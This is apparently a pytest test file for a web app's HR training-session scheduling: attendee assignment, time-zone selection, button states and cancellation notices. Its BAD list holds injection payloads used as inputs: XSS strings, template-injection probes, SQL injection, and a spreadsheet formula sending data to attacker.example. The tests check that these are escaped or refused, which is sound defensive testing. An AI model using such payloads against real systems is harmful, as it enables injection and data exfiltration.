"""HR scheduling that works (issue 21): anyone can be invited, the whole team at once, a time
zone picked from a list of cities, the next sensible action as the primary button, and a
cancellation that says who will be told."""

from __future__ import annotations

import datetime as dt
import re
from zoneinfo import ZoneInfo

import pytest
from sqlalchemy import select

from assessment import queries
from assessment.extensions import db
from assessment.models import AuditEntry, Mail, Person, TrainingAttendee, TrainingSession
from tests.conftest import add_user, log_in
from tests.web.test_training import new_session, person_id, planner  # noqa: F401 - fixture

MODULE = "exec-asking-questions"  # covers the CEO's and the CIO's needs, not Legal's
FUTURE = (dt.date.today() + dt.timedelta(days=30)).isoformat()
BAD = [
    '"><h1>X</h1><img src=x onerror=alert(1)>',
    "<xmp><script>alert(1)</script></xmp>",
    "</textarea><script>alert(1)</script>",
    "{{7*7}}",
    "{% for c in ''.__class__.__mro__[1].__subclasses__() %}{{c}}{% endfor %}",
    "1') OR ('1'='1",
    '=HYPERLINK("https://attacker.example/?d="&A1,"Click")',
    "Room\x00 4",
    "Room \u202e4",
]


@pytest.fixture
def hr(app, planner):  # noqa: F811 - the fixture imported above
    """The planner, plus a deactivated executive and an administrator without a role."""
    add_user(app, "it@example.com", role="it_manager", name="Ivy Gone", active=False)
    add_user(app, "admin@example.com", permissions=("admin",), name="Ada Admin")
    return planner


@pytest.fixture
def coord(app):
    """A coordinator and two executives, without answers (no needs): enough for the form."""
    add_user(app, "coord@example.com", permissions=("hr_coordinator",), name="Coordinator")
    add_user(app, "ceo@example.com", role="ceo", name="Casey Chief")
    add_user(app, "legal@example.com", role="legal", name="Lee Gal")
    client = app.test_client()
    log_in(client, "coord@example.com")
    return client


def page_of(client, session_id: int) -> str:
    return client.get(f"/training/sessions/{session_id}").get_data(as_text=True)


def section(html: str, legend: str) -> str:
    return html.split(f"<legend>{legend}</legend>", 1)[1].split("</fieldset>", 1)[0]


def attendees(app, session_id: int) -> list[str]:
    with app.app_context():
        training = queries.get_training_session(db.session, session_id)
        assert training is not None
        return sorted(a.person.email for a in training.attendees)


def assignments_audited(app, session_id: int) -> list[dict]:
    with app.app_context():
        return [
            e.details
            for e in db.session.scalars(
                select(AuditEntry)
                .where(
                    AuditEntry.action == "training_attendees_assigned",
                    AuditEntry.target == f"training-session-{session_id}",
                )
                .order_by(AuditEntry.id)
            )
        ]


def button_class(html: str, text: str) -> str | None:
    """The class of the button (or button-styled link) whose text starts with ``text``."""
    found = re.search(rf'<(?:button|a) class="([^"]+)"[^>]*>\s*{re.escape(text)}', html)
    return found.group(1) if found else None


# --- anyone, the whole team ---------------------------------------------------------------------


def test_anyone_else_lists_every_other_active_person_with_a_role_label(app, hr):
    session_id = new_session(hr, MODULE, date=FUTURE)
    html = page_of(hr, session_id)
    with_need = section(html, "People with this need")
    anyone = section(html, "Anyone else")
    assert "Casey Chief" in with_need and "Chris Info" in with_need
    assert f'value="{person_id(app, "legal@example.com")}">' in anyone  # not pre-ticked
    assert "Lee Gal (Legal executive)" in anyone
    assert "Ada Admin (administrator)" in anyone
    assert "Coordinator (HR coordinator)" in anyone
    assert "Casey Chief" not in anyone  # each person in one list only
    assert "Ivy Gone" not in html  # deactivated: not offered
    # executives first, in role order, then staff by name
    assert anyone.index("Lee Gal") < anyone.index("Ada Admin") < anyone.index("Coordinator")


def test_a_person_without_a_need_can_be_assigned_and_is_shown_as_added(app, hr):
    session_id = new_session(hr, MODULE, date=FUTURE)
    chosen = [person_id(app, "ceo@example.com"), person_id(app, "legal@example.com")]
    done = hr.post(
        f"/training/sessions/{session_id}/assign",
        data={"person": [str(i) for i in chosen]},
        follow_redirects=True,
    )
    assert done.status_code == 200 and "2 assigned" in done.text
    assert attendees(app, session_id) == ["ceo@example.com", "legal@example.com"]
    rows = done.text.split("<h2>Attendees</h2>", 1)[1].split("</table>", 1)[0]
    ceo_row = rows.split("Casey Chief", 1)[1].split("</tr>", 1)[0]
    legal_row = rows.split("Lee Gal", 1)[1].split("</tr>", 1)[0]
    assert "Has the need: Governance" in ceo_row
    assert ">Added<" in legal_row
    assert assignments_audited(app, session_id) == [
        {"people": ["ceo@example.com", "legal@example.com"], "whole_team": False}
    ]
    # assigned people leave the lists to choose from
    html = page_of(hr, session_id)
    assert "Lee Gal" not in section(html, "Anyone else")


def test_the_whole_leadership_team_is_added_in_one_step(app, hr):
    session_id = new_session(hr, MODULE, date=FUTURE, capacity="8")
    done = hr.post(
        f"/training/sessions/{session_id}/assign",
        data={"whole_team": "1"},
        follow_redirects=True,
    )
    assert "3 assigned" in done.text
    # every active executive; not the deactivated IT manager, not staff
    assert attendees(app, session_id) == ["ceo@example.com", "cio@example.com", "legal@example.com"]
    assert assignments_audited(app, session_id)[0]["whole_team"] is True
    again = hr.post(
        f"/training/sessions/{session_id}/assign", data={"whole_team": "1"}, follow_redirects=True
    )
    assert "already assigned" in again.text
    assert len(assignments_audited(app, session_id)) == 1


def test_the_whole_team_is_refused_beyond_the_capacity(app, hr):
    session_id = new_session(hr, MODULE, date=FUTURE, capacity="2")
    refused = hr.post(
        f"/training/sessions/{session_id}/assign", data={"whole_team": "1"}, follow_redirects=True
    )
    assert "2 free places and 3 people were selected" in refused.text
    assert attendees(app, session_id) == []


def test_a_tabletop_starts_with_the_whole_team_ticked(app, hr):
    session_id = new_session(hr, "ir-exec-tabletop", date=FUTURE, capacity="8")
    html = page_of(hr, session_id)
    assert "team exercise for the whole leadership team" in section(html, "People with this need")
    anyone = section(html, "Anyone else")
    for email in ("ceo@example.com", "cio@example.com", "legal@example.com"):
        assert f'value="{person_id(app, email)}" checked' in anyone
    for email in ("admin@example.com", "coord@example.com"):
        assert f'value="{person_id(app, email)}">' in anyone  # staff: not ticked


def test_a_deactivated_account_is_refused_with_a_message(app, hr):
    session_id = new_session(hr, MODULE, date=FUTURE)
    gone = person_id(app, "it@example.com")
    refused = hr.post(
        f"/training/sessions/{session_id}/assign",
        data={"person": [str(person_id(app, "ceo@example.com")), str(gone)]},
        follow_redirects=True,
    )
    assert refused.status_code == 200
    assert "the account of Ivy Gone is deactivated" in refused.text
    assert attendees(app, session_id) == []  # nothing half-done
    assert assignments_audited(app, session_id) == []


def test_an_account_deactivated_after_the_page_was_shown_is_refused(app, hr):
    session_id = new_session(hr, MODULE, date=FUTURE)
    legal = person_id(app, "legal@example.com")
    assert f'value="{legal}"' in page_of(hr, session_id)
    with app.app_context():
        person = db.session.get(Person, legal)
        assert person is not None and person.account is not None
        person.account.active = False
        db.session.commit()
    refused = hr.post(
        f"/training/sessions/{session_id}/assign",
        data={"person": [str(legal)]},
        follow_redirects=True,
    )
    assert "the account of Lee Gal is deactivated" in refused.text
    assert attendees(app, session_id) == []


def test_an_unknown_person_is_refused_with_a_message(app, hr):
    session_id = new_session(hr, MODULE, date=FUTURE)
    ceo = str(person_id(app, "ceo@example.com"))
    for value in ["999999", "abc", "-1", "1.5", "99999999999999999999", *BAD]:
        refused = hr.post(
            f"/training/sessions/{session_id}/assign",
            data={"person": [ceo, value]},
            follow_redirects=True,
        )
        assert refused.status_code == 200, repr(value)
        assert "a selected person is not known" in refused.text, repr(value)
        assert "<h1>X</h1>" not in refused.text and "<script>alert" not in refused.text
        assert attendees(app, session_id) == [], repr(value)
    # an empty value is no choice at all: the CEO alone is assigned
    hr.post(f"/training/sessions/{session_id}/assign", data={"person": [ceo, ""]})
    assert attendees(app, session_id) == ["ceo@example.com"]


def test_nobody_selected_is_a_message_not_an_error(app, hr):
    session_id = new_session(hr, MODULE, date=FUTURE)
    refused = hr.post(f"/training/sessions/{session_id}/assign", data={}, follow_redirects=True)
    assert refused.status_code == 200 and "Nobody was selected" in refused.text


def test_the_same_choice_posted_twice_is_assigned_once(app, hr):
    session_id = new_session(hr, MODULE, date=FUTURE)
    ceo, legal = person_id(app, "ceo@example.com"), person_id(app, "legal@example.com")
    form = {"person": [str(ceo), str(legal), str(ceo), f" {legal} "]}
    first = hr.post(f"/training/sessions/{session_id}/assign", data=form)
    second = hr.post(f"/training/sessions/{session_id}/assign", data=form, follow_redirects=True)
    assert first.status_code == 302 and second.status_code == 200
    assert "already assigned" in second.text
    assert attendees(app, session_id) == ["ceo@example.com", "legal@example.com"]
    assert len(assignments_audited(app, session_id)) == 1


def test_assigning_to_a_cancelled_session_is_refused(app, hr):
    session_id = new_session(hr, MODULE, date=FUTURE)
    hr.post(f"/training/sessions/{session_id}/cancel")
    refused = hr.post(
        f"/training/sessions/{session_id}/assign",
        data={"person": [str(person_id(app, "legal@example.com"))]},
        follow_redirects=True,
    )
    assert "This session is cancelled" in refused.text
    assert attendees(app, session_id) == []


def test_a_forged_assignment_without_the_csrf_token_is_refused(app, hr):
    session_id = new_session(hr, MODULE, date=FUTURE)
    app.config["WTF_CSRF_ENABLED"] = True
    forged = hr.post(
        f"/training/sessions/{session_id}/assign",
        data={"person": [str(person_id(app, "legal@example.com"))]},
    )
    assert forged.status_code in (400, 403)
    assert attendees(app, session_id) == []


# --- time zone ----------------------------------------------------------------------------------


def zone_select(html: str) -> str:
    """The time-zone select, its opening tag included."""
    found = re.search(r'<select[^>]* id="timezone"[^>]*>.*?</select>', html, re.S)
    assert found, "no time-zone select"
    return found.group(0)


def selected_zone(html: str) -> str:
    found = re.search(r'<option selected value="([^"]+)"', zone_select(html))
    if found is None:
        found = re.search(r'<option value="([^"]+)" selected', zone_select(html))
    assert found, "no time zone selected"
    return found.group(1)


def offset_on(name: str, day: dt.date) -> str:
    offset = dt.datetime.combine(day, dt.time(12), ZoneInfo(name)).utcoffset()
    assert offset is not None
    minutes = int(offset.total_seconds()) // 60
    return f"UTC{'-' if minutes < 0 else '+'}{abs(minutes) // 60:02d}:{abs(minutes) % 60:02d}"


def test_the_time_zone_is_a_labelled_list_of_cities_by_region(coord):
    html = coord.get("/training/sessions/new").get_data(as_text=True)
    assert '<label for="timezone">Time zone</label>' in html
    select = zone_select(html)
    today = dt.date.today()
    assert '<optgroup label="Europe">' in select and '<optgroup label="Americas">' in select
    assert f"Berlin (Europe/Berlin, {offset_on('Europe/Berlin', today)})" in select
    assert f"New York (America/New_York, {offset_on('America/New_York', today)})" in select
    assert "IANA" not in html
    assert selected_zone(html) == "UTC"  # nothing scheduled yet: the configured default


def test_the_default_time_zone_is_configurable(app, coord):
    app.config["TRAINING_DEFAULT_TIMEZONE"] = "Europe/Lisbon"
    assert selected_zone(coord.get("/training/sessions/new").text) == "Europe/Lisbon"


def test_the_default_is_the_time_zone_of_the_coordinators_last_session(app, coord):
    new_session(coord, MODULE, date=FUTURE, timezone="Europe/Berlin")
    new_session(coord, MODULE, date=FUTURE, timezone="Asia/Tokyo")
    assert selected_zone(coord.get("/training/sessions/new").text) == "Asia/Tokyo"
    # another coordinator's sessions do not count
    add_user(app, "coord2@example.com", permissions=("hr_coordinator",), name="Second")
    other = app.test_client()
    log_in(other, "coord2@example.com")
    assert selected_zone(other.get("/training/sessions/new").text) == "UTC"


def test_the_edit_form_shows_the_sessions_zone_with_the_offset_of_its_date(app, coord):
    session_id = new_session(coord, MODULE, date="2027-07-14", timezone="Europe/Berlin")
    html = coord.get(f"/training/sessions/{session_id}/edit").get_data(as_text=True)
    assert selected_zone(html) == "Europe/Berlin"
    assert "Berlin (Europe/Berlin, UTC+02:00)" in html  # summer, on the session's date
    assert "those of 14 July 2027" in html


def test_a_session_stored_with_an_old_alias_keeps_it_on_the_edit_form(app, coord):
    session_id = new_session(coord, MODULE, date=FUTURE, timezone="CET")  # valid, not offered
    html = coord.get(f"/training/sessions/{session_id}/edit").get_data(as_text=True)
    assert selected_zone(html) == "CET" and '<optgroup label="Other">' in html


def test_a_time_zone_not_in_the_list_gets_a_clear_message(app, coord):
    for zone in [
        "Berlin",
        "Mars/Olympus",
        "europe/berlin",
        "",
        "Europe/Berlin\x00",
        "x" * 5000,
        *BAD,
    ]:
        response = coord.post(
            "/training/sessions/new",
            data={
                "module_id": MODULE,
                "date": FUTURE,
                "time": "10:00",
                "timezone": zone,
                "duration_minutes": "60",
                "location": "Room 4",
                "capacity": "4",
                "facilitator": "Dana",
            },
        )
        assert response.status_code == 200, repr(zone)
        assert "Choose a time zone from the list." in response.text, repr(zone)
        assert 'aria-invalid="true"' in zone_select(response.text)
        assert "<h1>X</h1>" not in response.text and "<script>alert" not in response.text
        # what was typed elsewhere is kept
        assert 'value="Room 4"' in response.text and 'value="Dana"' in response.text
    with app.app_context():
        assert db.session.scalar(select(TrainingSession.id)) is None


@pytest.mark.parametrize("text", BAD, ids=lambda v: repr(v)[:20])
def test_place_and_facilitator_survive_bad_inputs(app, coord, text):
    hr = coord
    data = {
        "module_id": MODULE,
        "date": FUTURE,
        "time": "10:00",
        "timezone": "Europe/Berlin",
        "duration_minutes": "60",
        "location": text,
        "capacity": "4",
        "facilitator": text,
    }
    response = hr.post("/training/sessions/new", data=data)
    assert response.status_code in (200, 302)
    if response.status_code == 200:  # control or invisible characters: refused, kept
        assert "characters" in response.text
        with app.app_context():
            assert db.session.scalar(select(TrainingSession.id)) is None
        return
    session_id = int(response.headers["Location"].rsplit("/", 1)[1])
    hr.post(f"/training/sessions/{session_id}/assign", data={"whole_team": "1"})
    hr.post(f"/training/sessions/{session_id}/invite")
    for path in ("", "/cancel", "/edit"):
        html = hr.get(f"/training/sessions/{session_id}{path}").get_data(as_text=True)
        assert "<h1>X</h1>" not in html and "<script>alert" not in html and "<xmp>" not in html
        if text == "{{7*7}}":  # shown as typed, never evaluated
            assert "{{7*7}}" in html
    with app.app_context():
        stored = db.session.get(TrainingSession, session_id)
        assert stored is not None and stored.location == text and stored.facilitator == text
        mail = db.session.scalars(select(Mail)).first()
        assert mail is not None and text in (mail.body or "")


# --- the next sensible action -------------------------------------------------------------------


def test_the_primary_button_follows_the_sessions_state(app, hr):
    session_id = new_session(hr, MODULE, date=FUTURE, capacity="8")
    html = page_of(hr, session_id)
    assert button_class(html, "Assign the selected people") == "button"
    assert button_class(html, "Add the whole leadership team") == "button secondary"
    assert "Send invitations" not in html and "Nobody is assigned yet" in html

    ceo, legal = person_id(app, "ceo@example.com"), person_id(app, "legal@example.com")
    hr.post(f"/training/sessions/{session_id}/assign", data={"person": [str(ceo), str(legal)]})
    html = page_of(hr, session_id)
    assert button_class(html, "Send invitations to 2 people not yet invited") == "button"
    assert button_class(html, "Assign the selected people") == "button secondary"
    assert button_class(html, "Save attendance") == "button secondary"

    hr.post(f"/training/sessions/{session_id}/invite")
    html = page_of(hr, session_id)
    assert "Everyone assigned has been invited." in html
    assert "Send invitations" not in html
    assert ' class="button" ' not in html and 'class="button"' not in html.split("<main", 1)[1]

    hr.post(f"/training/sessions/{session_id}/assign", data={"whole_team": "1"})  # adds the CIO
    html = page_of(hr, session_id)
    assert button_class(html, "Send invitations to 1 person not yet invited") == "button"

    with app.app_context():  # the session has begun
        training = db.session.get(TrainingSession, session_id)
        assert training is not None
        training.starts_at = dt.datetime.now(dt.UTC) - dt.timedelta(minutes=5)
        db.session.commit()
    html = page_of(hr, session_id)
    assert button_class(html, "Record attendance") == "button"
    assert "Send invitations" not in html and "record who attended" in html


def test_cancel_is_a_danger_button_leading_to_a_confirmation(app, hr):
    session_id = new_session(hr, MODULE, date=FUTURE)
    html = page_of(hr, session_id)
    assert button_class(html, "Cancel the session") == "button danger"
    assert f'href="/training/sessions/{session_id}/cancel"' in html


def test_the_cancel_confirmation_says_who_will_be_told_and_it_comes_true(app, hr):
    session_id = new_session(hr, MODULE, date=FUTURE, capacity="8")
    ceo, legal = person_id(app, "ceo@example.com"), person_id(app, "legal@example.com")
    hr.post(f"/training/sessions/{session_id}/assign", data={"person": [str(ceo)]})
    hr.post(f"/training/sessions/{session_id}/invite")
    hr.post(f"/training/sessions/{session_id}/assign", data={"person": [str(legal)]})
    confirm = hr.get(f"/training/sessions/{session_id}/cancel").get_data(as_text=True)
    assert "1 person invited will be told" in confirm and "(Casey Chief)" in confirm
    assert "1 person assigned but not invited (Lee Gal) is not told" in confirm
    assert button_class(confirm, "Cancel the session and tell 1 person") == "button danger"
    assert button_class(confirm, "Keep the session") == "button secondary"
    with app.app_context():  # asking changed nothing
        training = db.session.get(TrainingSession, session_id)
        assert training is not None and training.is_scheduled
        before = len(db.session.scalars(select(Mail)).all())
    done = hr.post(f"/training/sessions/{session_id}/cancel", follow_redirects=True)
    assert "Session cancelled; 1 cancellation sent." in done.text
    assert "Cancel the session" not in done.text and "Assign people" not in done.text
    with app.app_context():
        training = db.session.get(TrainingSession, session_id)
        assert training is not None and not training.is_scheduled
        sent = db.session.scalars(select(Mail).order_by(Mail.id)).all()[before:]
        assert [(m.recipient, m.subject.split(":")[0]) for m in sent] == [
            ("ceo@example.com", "Cancelled")
        ]
    # once cancelled, the confirmation page leads back to the session
    again = hr.get(f"/training/sessions/{session_id}/cancel")
    assert again.status_code == 302 and again.headers["Location"].endswith(f"/{session_id}")


def test_the_cancel_confirmation_without_invitations_says_nobody_is_told(hr):
    session_id = new_session(hr, MODULE, date=FUTURE)
    confirm = hr.get(f"/training/sessions/{session_id}/cancel").get_data(as_text=True)
    assert "Nobody has been invited yet, so nobody gets an e-mail." in confirm
    assert button_class(confirm, "Cancel the session") == "button danger"


def test_planner_tables_stack_with_labelled_cells(hr):
    html = hr.get("/training/").get_data(as_text=True)
    needs = html.split("<h2>Needs by person</h2>", 1)[1].split("</table>", 1)[0]
    assert '<table class="stack">' in needs and 'data-label="Modules"' in needs


def test_a_person_assigned_by_another_request_meanwhile_is_skipped_not_an_error(app, hr):
    """The same form posted twice at once: the second request read the attendees before the
    first one's row arrived; its insert is skipped instead of ending in a 500."""
    session_id = new_session(hr, MODULE, date=FUTURE)
    ceo, legal = person_id(app, "ceo@example.com"), person_id(app, "legal@example.com")
    with app.app_context():
        training = queries.get_training_session(db.session, session_id)
        assert training is not None and training.attendees == []  # read before the other row
        db.session.execute(
            TrainingAttendee.__table__.insert().values(
                organisation_id=1, session_id=session_id, person_id=ceo, completed=False
            )
        )
        people = [db.session.get(Person, ceo), db.session.get(Person, legal)]
        added = queries.assign_attendees(db.session, training, [p for p in people if p])
        db.session.commit()
        assert [p.email for p in added] == ["legal@example.com"]
        assert sorted(a.person_id for a in training.attendees) == sorted([ceo, legal])
